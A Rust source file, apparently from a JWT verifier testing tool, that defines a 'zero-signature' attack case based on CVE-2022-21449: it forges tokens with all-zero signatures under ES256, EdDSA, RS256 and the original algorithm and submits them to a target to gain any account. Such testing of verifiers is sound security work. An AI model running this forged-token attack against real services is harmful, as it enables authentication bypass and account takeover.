//! A signature of zeros.

use serde_json::json;

use crate::attack::{
    plan::{Attack, Expected, Needs, Tried},
    stage::{Stage, forged},
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "zero-signature",
    title: "A signature of zeros",
    has: "nothing",
    does: "signs with zeros, which some verifiers accept for every message",
    gains: "any account",
    source: "CVE-2022-21449; F030",
    expected: Expected::EVERYWHERE.not_careless_session("it has no tokens"),
    needs: Needs::Requests,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (header, claims) = stage.base().await?;
    let mut tokens = Vec::new();
    for name in [header["alg"].clone(), json!("ES256"), json!("EdDSA"), json!("RS256")] {
        for length in [0, 1, 64, 256] {
            let mut header = header.clone();
            header["alg"] = name.clone();
            tokens.push((format!("alg {name}, {length} zeros"), forged(&header, &claims, vec![0; length])));
        }
    }
    stage.try_tokens(&tokens).await
}
